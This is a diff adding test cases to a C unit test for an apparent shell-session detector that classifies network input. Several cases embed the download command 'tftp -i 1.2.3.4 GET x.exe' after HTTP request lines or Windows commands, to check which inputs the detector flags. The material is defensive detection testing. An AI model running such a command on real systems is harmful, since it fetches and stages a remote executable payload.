@@ -532,6 +532,15 @@ static void test_screen(void)
 		{"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>", 0, WS_SHELL_NONE},
 		{"SSH-2.0-OpenSSH_9.2p1\r\n", 0, WS_SHELL_NONE},
 		{"POST /cgi HTTP/1.0\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		/* every HTTP start is recognised, whatever its first letter (is_http) */
+		{"HEAD / HTTP/1.0\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		{"PUT /f HTTP/1.1\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		{"OPTIONS * HTTP/1.1\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		{"CONNECT a:443 HTTP/1.1\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		{"HTTP/1.0 200 OK\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		/* a first letter shared with HTTP is not HTTP */
+		{"GETMAC\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
+		{"CD \\\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
 		{"220 mail.example.com ESMTP\r\n", 0, WS_SHELL_NONE},
 		{"echo hello\n", 0, WS_SHELL_NONE},
 		{"x C:\\WINDOWS>", 0, WS_SHELL_NONE},	/* not at a line start */
